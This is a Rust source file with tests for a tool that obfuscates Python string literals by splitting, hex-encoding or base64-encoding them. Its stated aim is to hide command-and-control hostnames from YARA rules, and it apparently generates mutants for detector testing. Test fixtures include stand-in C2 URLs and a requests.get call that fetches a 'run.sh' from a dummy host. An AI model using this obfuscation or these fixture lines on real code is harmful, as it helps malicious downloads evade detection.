//! String-literal obfuscation: split, hex-encode or base64-encode plain
//! string literals into runtime-equivalent expressions.
//!
//! These are the canonical registry-malware tricks: a C2 hostname that
//! never appears contiguously in the file defeats every literal atom a
//! YARA rule keys on, while `bytes.fromhex(...)`/`b64decode(...)` keep
//! the runtime value byte-identical.

use pysrc::Kind;
use rand::rngs::StdRng;
use rand::Rng;

use crate::edit::{apply_edits, Edit, TokenView};

/// Renders `value` as a quoted Python single-line string literal.
fn quote(value: &str) -> String {
    let mut out = String::with_capacity(value.len() + 2);
    out.push('\'');
    for c in value.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '\'' => out.push_str("\\'"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            other => out.push(other),
        }
    }
    out.push('\'');
    out
}

/// `('ab' + 'cd' + 'ef')` — concatenation of 2–4 chunks split at
/// rng-chosen char boundaries.
fn split_expr(value: &str, rng: &mut StdRng) -> String {
    let chars: Vec<char> = value.chars().collect();
    let pieces = rng.gen_range(2..=4usize).min(chars.len());
    let mut cuts: Vec<usize> = (0..pieces - 1)
        .map(|_| rng.gen_range(1..chars.len()))
        .collect();
    cuts.sort_unstable();
    cuts.dedup();
    let mut parts = Vec::new();
    let mut prev = 0usize;
    for &cut in cuts.iter().chain(std::iter::once(&chars.len())) {
        let piece: String = chars[prev..cut].iter().collect();
        parts.push(quote(&piece));
        prev = cut;
    }
    format!("({})", parts.join(" + "))
}

/// `bytes.fromhex('...').decode('utf-8')`
fn hex_expr(value: &str) -> String {
    let hex: String = value.bytes().map(|b| format!("{b:02x}")).collect();
    format!("bytes.fromhex('{hex}').decode('utf-8')")
}

/// `__import__('base64').b64decode('...').decode('utf-8')`
fn base64_expr(value: &str) -> String {
    format!(
        "__import__('base64').b64decode('{}').decode('utf-8')",
        digest::base64::encode(value.as_bytes())
    )
}

pub(crate) fn apply(source: &str, rng: &mut StdRng) -> String {
    let view = TokenView::new(source);
    let n = view.tokens.len();
    let mut edits = Vec::new();
    for i in 0..n {
        let t = view.tokens[i];
        // Only plain strings: raw/bytes/f-strings have different runtime
        // types or interpolation, and rewriting them would change
        // behavior.
        if t.kind != Kind::STR || !t.prefix().is_empty() || view.in_import[i] {
            continue;
        }
        // Implicit adjacent-literal concatenation: replacing one half
        // with a parenthesized expression would turn it into a call.
        let neighbor_str = |j: Option<usize>| {
            j.and_then(|j| view.tokens.get(j))
                .is_some_and(|t| t.kind == Kind::STR)
        };
        if neighbor_str(i.checked_sub(1)) || neighbor_str(Some(i + 1)) {
            continue;
        }
        // Non-ASCII values are left alone: the tolerant lexer decodes
        // high bytes as Latin-1, so re-encoding them would change the
        // runtime string and break the semantics-preserving contract.
        let value = t.value(source);
        if value.len() < 4 || value.len() > 256 || !value.is_ascii() || !rng.gen_bool(0.85) {
            continue;
        }
        let replacement = match rng.gen_range(0..3u32) {
            0 => split_expr(&value, rng),
            1 => hex_expr(&value),
            _ => base64_expr(&value),
        };
        edits.push(Edit::token(t, replacement));
    }
    apply_edits(source, edits)
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    #[test]
    fn split_preserves_value() {
        let mut rng = StdRng::seed_from_u64(5);
        let e = split_expr("http://c2.evil/x", &mut rng);
        // Concatenating the parsed pieces must reproduce the original.
        let m = pysrc::parse_module(&format!("v = {e}\n"));
        let strings = pysrc::collect_strings(&m);
        let joined: String = strings.iter().map(|(s, _)| *s).collect();
        assert_eq!(joined, "http://c2.evil/x");
    }

    #[test]
    fn hex_and_base64_roundtrip() {
        assert!(hex_expr("id").contains("6964"));
        let b64 = base64_expr("os");
        let payload = b64.split('\'').nth(3).expect("payload");
        assert_eq!(digest::base64::decode(payload).expect("decodes"), b"os");
    }

    #[test]
    fn quote_escapes() {
        assert_eq!(quote("a'b\\c\nd"), "'a\\'b\\\\c\\nd'");
    }

    #[test]
    fn atoms_disappear_from_mutant() {
        let src = "url = 'http://bexlum.top/run.sh'\nrequests.get(url)\n";
        let out = apply(src, &mut StdRng::seed_from_u64(11));
        assert!(!out.contains("bexlum.top"), "{out}");
        assert!(out.contains("requests.get"));
        // Mutant still lexes and parses.
        assert!(!pysrc::parse_module(&out).body.is_empty());
    }

    #[test]
    fn raw_bytes_and_fstrings_untouched() {
        let src = "a = r'\\d+'\nb = b'blob'\nc = f'{a}!'\n";
        assert_eq!(apply(src, &mut StdRng::seed_from_u64(2)), src);
    }

    #[test]
    fn non_ascii_literals_untouched() {
        // The tolerant lexer decodes high bytes as Latin-1; re-encoding
        // a non-ASCII value would change the runtime string.
        let src = "дата = 'значение с пробелами'\nnote = 'naïve — dash'\n";
        assert_eq!(apply(src, &mut StdRng::seed_from_u64(4)), src);
    }

    #[test]
    fn adjacent_literals_untouched() {
        let src = "u = 'http://' 'evil.example'\n";
        assert_eq!(apply(src, &mut StdRng::seed_from_u64(2)), src);
    }
}
